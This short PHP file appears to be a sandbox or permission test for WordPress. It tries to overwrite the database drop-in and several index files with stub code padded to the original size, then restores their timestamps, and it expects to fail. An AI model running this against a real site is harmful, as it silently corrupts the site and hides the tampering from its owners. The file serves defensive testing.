<?php
/*
tries: Rewrites the drop-in and the index files that lie where it may write, keeping their size, mode and time.
acceptable: [fail]
tests: [function, options, output]
*/

foreach ( array( 'db.php', 'index.php', 'plugins/index.php', 'themes/index.php' ) as $name ) {
	$file = "/site/wp-content/$name";
	try {
		$time = filemtime( $file );
		file_put_contents( $file, str_pad( '<?php return 1; ', filesize( $file ) ) );
		touch( $file, $time, $time );
	} catch ( Throwable $denied ) {
		continue;
	}
}
